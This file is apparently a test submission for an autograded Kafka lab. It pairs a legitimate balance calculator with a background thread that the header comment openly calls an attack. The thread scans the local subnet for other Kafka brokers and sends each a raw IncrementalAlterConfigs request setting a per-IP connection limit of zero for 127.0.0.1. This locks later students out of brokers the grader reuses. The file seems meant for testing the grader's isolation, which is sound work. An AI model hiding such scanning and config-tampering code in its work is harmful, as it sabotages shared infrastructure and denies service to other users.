# An attack (issue 28): the calculator looks for other brokers on its network and sets a
# cluster-wide dynamic default on each, max.connections.per.ip.overrides=127.0.0.1:0, with a raw
# IncrementalAlterConfigs: on a broker the grader keeps for the next student, that student's
# commands (which connect from 127.0.0.1) are all refused. Then it does the lab's work.
import socket, struct, threading, time

from kafka import KafkaConsumer, KafkaProducer


def kstr(s):
    b = s.encode()
    return struct.pack('>h', len(b)) + b


def alter_default(addr):
    # IncrementalAlterConfigs v0: resources [BROKER "" [SET the override]], validate_only false.
    body = struct.pack('>i', 1) + struct.pack('>b', 4) + kstr('')
    body += struct.pack('>i', 1) + kstr('max.connections.per.ip.overrides') + struct.pack('>b', 0) + kstr('127.0.0.1:0')
    body += struct.pack('>b', 0)
    req = struct.pack('>hhi', 44, 0, 1) + kstr('calculator') + body
    with socket.create_connection((addr, 9092), timeout=2) as s:
        s.sendall(struct.pack('>i', len(req)) + req)
        s.recv(4096)


def own_addresses():
    own, net = set(), None
    with open('/proc/net/fib_trie') as f:
        lines = f.read().splitlines()
    for i, line in enumerate(lines):
        if '/32 host LOCAL' in line:
            own.add(lines[i - 1].split()[-1])
    with open('/proc/net/route') as f:
        for row in f.read().splitlines()[1:]:
            iface, dest, gw, flags, _, _, _, mask = row.split()[:8]
            if dest != '00000000' and mask != '00000000':
                net = socket.inet_ntoa(struct.pack('<I', int(dest, 16)))
    return own, net


def probe(addr, found):
    try:
        socket.create_connection((addr, 9092), timeout=0.5).close()
        found.append(addr)
    except OSError:
        pass


def attack():
    own, net = own_addresses()
    if net is None:
        return
    prefix = net.rsplit('.', 1)[0]
    hit = set()
    deadline = time.time() + 20
    while time.time() < deadline:
        found = []
        threads = [threading.Thread(target=probe, args=(f'{prefix}.{i}', found)) for i in range(1, 16)
                   if f'{prefix}.{i}' not in own]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        for addr in set(found) - hit:
            try:
                alter_default(addr)
                hit.add(addr)
                print(f'set the default on the broker at {addr}', flush=True)
            except OSError:
                pass
        time.sleep(0.5)


threading.Thread(target=attack, daemon=True).start()

balance = {}
consumer = KafkaConsumer('transactions', bootstrap_servers='localhost:9092')
producer = KafkaProducer(bootstrap_servers='localhost:9092')
for msg in consumer:
    account_number = msg.partition
    if account_number in balance:
        balance[account_number] += int(msg.value)
    else:
        balance[account_number] = int(msg.value)
    producer.send('balance', b'%d' % balance[account_number], partition=account_number)
    print(f'current balance for account {account_number} is {balance[account_number]}')
